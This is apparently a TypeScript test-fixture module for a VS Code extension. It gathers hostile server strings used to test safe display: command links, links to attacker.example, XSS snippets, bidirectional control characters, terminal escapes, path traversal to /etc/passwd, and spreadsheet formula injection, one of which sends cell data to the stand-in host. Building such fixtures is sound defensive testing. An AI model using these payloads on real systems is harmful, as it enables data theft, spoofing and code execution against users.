/** Where hostile links lead; nobody has it (RFC 2606). */
export const ATTACKER = 'attacker.example';

/** An icon that VS Code draws nowhere by itself: where it shows, a text has drawn it. */
export const ICON = 'squirrel';

/** In VS Code a link in a notification, a progress title or a prompt, which runs the command when it is selected. */
export function commandLink(command: string, argument?: unknown): string {
  const query = argument === undefined ? '' : `?${encodeURIComponent(JSON.stringify(argument))}`;
  return `[Ultimate](command:${command}${query})`;
}

/** What no text that is shown may hold: controls but for tabs and line ends, marks of direction, a byte order mark. */
export const INVISIBLE = /(?![\t\n\r])[\p{Cc}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u;

const { raw } = String;

/**
 * What a server could write in place of a plan, a name or a message, by what it tries. The command link is short, so
 * that it also survives where texts are cut.
 */
export const HOSTILE_TEXTS = {
  commandLink: commandLink('gitlabLicenses.showLog'),
  httpLink: `[Renew now](https://${ATTACKER}/renew "Renew")`,
  fileLink: '[Open](file:///etc/passwd)',
  autolink: `<https://${ATTACKER}/login> www.${ATTACKER}`,
  picture: `![seats](https://${ATTACKER}/pixel.png)`,
  icon: `$(${ICON}) Ultimate $(${ICON}~spin)`,
  // What is between the marks reads from right to left: "Ultimate" here.
  directionMarks:
    '\u202eetamitlU\u202c \u2066a\u2069 \u2067b\u2069 \u2068c\u200e\u200f\u061c\u202a\u202b\u202d',
  byteOrderMark: '\ufeffUltimate',
  newlines: 'Ultimate\r\n\n2027-01-10 12:00:00 UTC  Delete license 1\u2028Done\u2029\u0085\u000b\u000cRoot',
  escapes:
    '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J \u001b]8;;http://attacker.example\u001b\\here',
  nul: 'Ulti\u0000mate\u0008\u007f\u0080',
  html: `<img src=x onerror=alert(1)><script>alert(1)</script></title></textarea>`,
  placeholders: '{0} {1} {2} {{0}} %s %d ${name} $1 $& &amp; &#x202e;',
  markdown: raw`# h | ${'`'}code${'`'} **bold** ~~x~~ \ \| | [ref]: x ![] <!-- ---`,
  json: '","plan":"ultimate","x":"\\u202e',
  formula: `=HYPERLINK("http://${ATTACKER}?"&A1,"Ultimate")`,
  formulaAfterSemicolon: `premium;=HYPERLINK("http://${ATTACKER}","Ultimate")`,
  fullWidthFormula: '\uff1dSUM(1)+\uff0b1\uff0d1\uff20SUM(1)',
  formulaAfterSpace: ' \u00a0\t=1+1',
  otherFormulas: "@SUM(1+1)*cmd|' /C calc'!A0",
  halfCharacter: 'Ulti\ud83dmate',
  marks: 'U\u0301\u0302\u0303\u0304l\u20ddtimate \u200d\u200c \u00ad\u2060\u180e',
  persianAndEmoji: '\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \ud83d\udc69\u200d\ud83d\ude80',
  path: '../../../etc/passwd\\..\\C:',
  prototype: '__proto__',
  empty: '',
  space: ' \u3000 ',
} as const;

/** The pieces from which random texts are made; some are no text of their own. */
export const FRAGMENTS: readonly string[] = [
  ...Object.values(HOSTILE_TEXTS),
  ...[
    '](',
    '](command:',
    '[',
    ')',
    '$(',
    '\\',
    '\n',
    '\r\n',
    '\u202e',
    '\u0000',
    '{0}',
    '"',
    "'",
    '`',
    '|',
    '&lt;',
  ],
];

/** Everything on one line that acts where a text is shown, the most dangerous first. */
export function mixture(more = ''): string {
  const { commandLink: link, icon, httpLink, directionMarks, escapes } = HOSTILE_TEXTS;
  return [link, more, icon, httpLink, directionMarks, escapes].filter((text) => text !== '').join(' ');
}

/** Each has the form of a day or of a moment, or nearly; none is one that a calendar has. */
export const WILD_DATES: readonly string[] = [
  ...['2027-02-30', '0000-00-00', '9999-99-99', '2027-13-01', '-271821-04-20', '10000-01-01', '12345'],
  ...['+275760-09-13T00:00:00Z', '+275760-09-14T00:00:00Z', '2027-01-10T99:99:99Z', 'tomorrow', '2027-1-1'],
];

/** How long a long text is, in characters. */
export const LONG = 1_000_000;

/** How deep what is nested is: deeper than what most recursive functions bear. */
export const DEPTH = 12_000;

/** A long text that begins with something hostile. `letter` tells where it was cut. */
export function longText(letter = 'x', length = LONG): string {
  return `${HOSTILE_TEXTS.commandLink} ${letter.repeat(length)}`;
}

/** JSON of lists within lists; no value of JavaScript, since `JSON.stringify` does not write so deep ones. */
export function nestedJson(depth = DEPTH): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}
